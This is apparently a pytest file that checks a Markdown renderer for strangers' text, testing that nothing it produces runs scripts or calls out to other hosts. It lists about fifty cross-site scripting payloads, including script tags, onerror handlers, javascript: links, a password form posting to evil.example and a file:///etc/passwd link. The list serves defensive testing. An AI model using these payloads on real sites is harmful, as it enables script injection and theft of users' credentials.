"""Strangers' Markdown: what it may make, and that nothing of it runs or calls home."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from fairway.web.pages.markdown import ATTRIBUTES, TAGS, render

# Of what browsers have been made to run, by HTML, by links, by what looks like neither; what of it reaches a page is text.
PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=password>",
    "<details open ontoggle=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<x onclick=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:x)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/admin)",
    "[x](../x)",
    "[x](http:evil.example)",
    "[x](https://)",
    "[x](https://[::1)",
    '[x](https://e.example "on\\"mouseover=alert(1) x=\\"")',
    '[x](https://e.example/"onmouseover="alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '<https://e.example/"onclick=alert(1)>',
    "![x](https://evil.example/pixel.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](https://evil.example/x.png)',
    "![![x](https://a.example/1.png)](https://b.example/2.png)",
    "```<script>\nalert(1)\n```",
    '```js" onclick="alert(1)\nx\n```',
    "`<img src=x onerror=alert(1)>`",
    "| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |",
    "# <svg/onload=alert(1)>",
    "{{ 7 * 7 }} ${7*7} <%= 7 %>",
    "\u202etxt.exe",
)  # fmt: skip


class Seen(HTMLParser):
    """What a browser would make of it: tags with their attributes."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags = []

    def handle_starttag(self, tag, attributes):
        self.tags.append((tag, dict(attributes)))

    def handle_comment(self, data):
        self.tags.append(("comment", {"data": data}))


def seen(html):
    parser = Seen()
    parser.feed(str(html))
    parser.close()
    return parser.tags


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("frame", ["{}", "> {}", "- {}", "a **{}** b", "[{}](https://e.example)"])
def test_what_is_hostile_is_text(payload, frame):
    for tag, attributes in seen(render(frame.format(payload))):
        assert tag in TAGS
        assert attributes.keys() <= ATTRIBUTES.get(tag, set()) | {"rel"}
        if "href" in attributes:
            assert re.fullmatch(r"https?://[^\s/].*", attributes["href"])
            assert attributes["rel"] == "nofollow noopener"


def test_what_is_meant_well_looks_as_meant():
    html = str(
        render(
            "# Lab\n\nOur *own* **packages**, `x < y`.\n\n1. one\n2. [two](https://e.example/?a=1&b=2 'T')\n\n"
            "| a | b |\n|---|---|\n| 1 | ~~2~~ |\n\n```sh\npixi add demo\n```\n\n> said\n\n---\n"
        )
    )
    for part in (
        "<h2>Lab</h2>",
        "<em>own</em>",
        "<strong>packages</strong>",
        "<code>x &lt; y</code>",
        '<a href="https://e.example/?a=1&amp;b=2" title="T" rel="nofollow noopener">two</a>',
        "<td>1</td>",
        "<s>2</s>",
        "<pre><code>pixi add demo\n</code></pre>",
        "<blockquote>",
        "<hr>",
    ):
        assert part in html, part
    assert seen(render("###### low"))[0][0] == "h6"


def test_a_picture_is_a_link_to_it():
    assert str(render("![A boat](https://e.example/boat.png)")) == (
        '<p><a href="https://e.example/boat.png" rel="nofollow noopener">A boat</a></p>\n'
    )
    assert str(render("![](https://e.example/boat.png)")).count("boat.png") == 2


def test_deep_and_long_texts_end():
    for text in (
        "> " * 20_000,
        "[" * 50_000,
        "*" * 50_000,
        "`" * 50_000,
        "- " * 5_000 + "x",
        "<" * 100_000,
        "a" * 600_000,
    ):
        assert len(render(text)) < 4_000_000
